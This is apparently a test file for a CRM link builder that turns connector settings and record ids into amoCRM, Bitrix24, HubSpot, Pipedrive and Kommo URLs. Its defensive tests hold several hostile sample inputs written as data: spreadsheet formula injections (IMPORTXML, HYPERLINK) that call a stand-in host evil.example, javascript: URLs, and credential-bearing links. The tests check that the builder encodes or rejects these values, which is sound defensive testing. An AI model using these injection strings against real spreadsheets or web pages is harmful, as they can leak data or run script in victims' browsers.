import type { Config } from '../../../src/connectors/kit/contract';
import { connectors } from '../../../src/connectors/registry.gen';
import { cardsIn, cardsSetting, linkIn, linkOf } from '../../../src/facts/cards/addresses';

const linkFrom = (crm: string, config: Config, kind: string, id: string): string => {
	const connector = connectors.find((one) => one.id === crm)!;
	const book = cardsIn(new Map(Object.entries(cardsSetting(crm, connector.cards(config)))));
	return linkIn(book, kind, crm, id);
};

test.each<[crm: string, Config, kind: string, id: string, link: string]>([
	['amocrm', { base_url: 'firma.amocrm.ru' }, 'deal', '77', 'https://firma.amocrm.ru/leads/detail/77'],
	['amocrm', { base_url: 'https://firma.amocrm.ru/dashboard/' }, 'company', '8', 'https://firma.amocrm.ru/companies/detail/8'],
	['amocrm', { base_url: 'crm.firma.ru' }, 'contact', '9', 'https://crm.firma.ru/contacts/detail/9'],
	['kommo', { base_url: 'acme.kommo.com' }, 'deal', '77', 'https://acme.kommo.com/leads/detail/77'],
	['bitrix24', { account_id: 'firma.bitrix24.ru' }, 'deal', '5', 'https://firma.bitrix24.ru/crm/deal/details/5/'],
	['bitrix24', { account_id: 'crm.firma.ru:8443' }, 'company', 'CO_6', 'https://crm.firma.ru:8443/crm/company/details/6/'],
	['bitrix24', { account_id: 'портал.рф' }, 'contact', 'C_7', 'https://портал.рф/crm/contact/details/7/'],
	['bitrix24', { account_id: 'firma.bitrix24.ru' }, 'invoice', '4', 'https://firma.bitrix24.ru/crm/type/31/details/4/'],
	['hubspot', { account_id: '123' }, 'deal', '77', 'https://app.hubspot.com/contacts/123/record/0-3/77'],
	[
		'hubspot',
		{ account_id: '123', ui_domain: 'app-eu1.hubspot.com' },
		'company',
		'8',
		'https://app-eu1.hubspot.com/contacts/123/record/0-2/8',
	],
	['hubspot', { account_id: '123' }, 'contact', 'contact-9', 'https://app.hubspot.com/contacts/123/record/0-1/9'],
	['pipedrive', { base_url: 'acme' }, 'deal', '77', 'https://acme.pipedrive.com/deal/77'],
	['pipedrive', { base_url: 'api.pipedrive.com', company_domain: 'acme' }, 'company', '8', 'https://acme.pipedrive.com/organization/8'],
	['pipedrive', { base_url: 'acme.pipedrive.com' }, 'contact', 'person-9', 'https://acme.pipedrive.com/person/9'],
])('%s %j: a %s %s opens %s', (crm, config, kind, id, link) => {
	expect(linkFrom(crm, config, kind, id)).toBe(link);
});

test('an id is nothing but a part of the path, whatever is in it', () => {
	const link = linkFrom('amocrm', { base_url: 'firma.amocrm.ru' }, 'deal', '1";IMPORTXML("https://evil.example/?a');
	expect(link).toBe('https://firma.amocrm.ru/leads/detail/1%22%3BIMPORTXML(%22https%3A%2F%2Fevil.example%2F%3Fa');
	expect(linkFrom('amocrm', { base_url: 'firma.amocrm.ru' }, 'deal', '$&$1')).toBe('https://firma.amocrm.ru/leads/detail/%24%26%241');
	expect(linkFrom('amocrm', { base_url: 'firma.amocrm.ru' }, 'deal', '')).toBe('');
});

test.each([
	'javascript:alert(1)',
	'http://evil.example/',
	'https://user:word@evil.example/',
	'https://evil.example/"&IMPORTXML("x")',
	'https://evil.example/a b',
	'=HYPERLINK("https://evil.example")',
	'ftp://evil.example',
	'//evil.example',
	'https://',
	`https://long.example/${'a'.repeat(2000)}`,
])('%s is no link', (text) => {
	expect(linkOf(text)).toBe('');
});

test('a line of the settings that somebody spoiled gives no links, and no error', () => {
	for (const value of ['', '{', 'null', '7', '{"deal":7}', '{"deal":{"address":7}}', '{"deal":{"address":"javascript:{id}"}}'])
		expect([value, linkIn(cardsIn(new Map([['cards_x', value]])), 'deal', 'x', '1')]).toEqual([value, '']);
});
